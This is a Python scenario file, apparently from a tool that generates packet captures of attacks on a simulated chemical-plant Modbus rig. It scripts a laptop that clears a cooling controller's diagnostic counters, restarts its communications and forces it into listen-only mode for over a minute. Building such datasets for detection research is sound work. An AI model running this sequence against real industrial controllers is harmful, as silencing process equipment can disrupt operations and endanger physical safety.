"""A laptop abuses the diagnostics function: clears counters, restarts communications, silences a controller."""

from __future__ import annotations

import contextlib

from pymodbus.exceptions import ModbusException

from pcaps.scenarios.rig.layout import CHEM
from pcaps.scenarios.rig.operations import chem_masters
from pcaps.scenarios.rig.scenario import Scenario
from pcaps.scenarios.rig.stage import Stage


async def attack(stage: Stage) -> None:
    """Ask, clear, restart, silence for over a minute, wake."""
    await stage.until(40)
    async with stage.connect(CHEM.host("cooling").ip, patience_s=0.3) as client:
        stage.mark()
        await client.diag_query_data(b"\x5a\x5a", device_id=1)
        await client.diag_read_diagnostic_register(device_id=1)
        await client.diag_read_bus_message_count(device_id=1)
        await client.diag_read_bus_exception_error_count(device_id=1)
        await client.diag_get_comm_event_counter(device_id=1)
        await client.diag_get_comm_event_log(device_id=1)
        await stage.until(60)
        stage.mark()
        await client.diag_clear_counters(device_id=1)
        await client.diag_change_ascii_input_delimeter(delimiter=0x3B, device_id=1)
        await stage.until(75)
        stage.mark()
        await client.diag_restart_communication(toggle=True, device_id=1)
        await stage.until(90)
        stage.mark()
        with contextlib.suppress(ModbusException):
            await client.diag_force_listen_only(device_id=1)
        await stage.until(190)
        stage.mark()
        with contextlib.suppress(ModbusException):
            await client.diag_restart_communication(toggle=True, device_id=1)


SCENARIO = Scenario(
    file="diagnostics.pcap.gz",
    enterprise="chem",
    duration_s=230,
    time_scale=6,
    seed=9,
    masters=chem_masters(),
    acts={"laptop": attack},
    strangers=("laptop",),
)
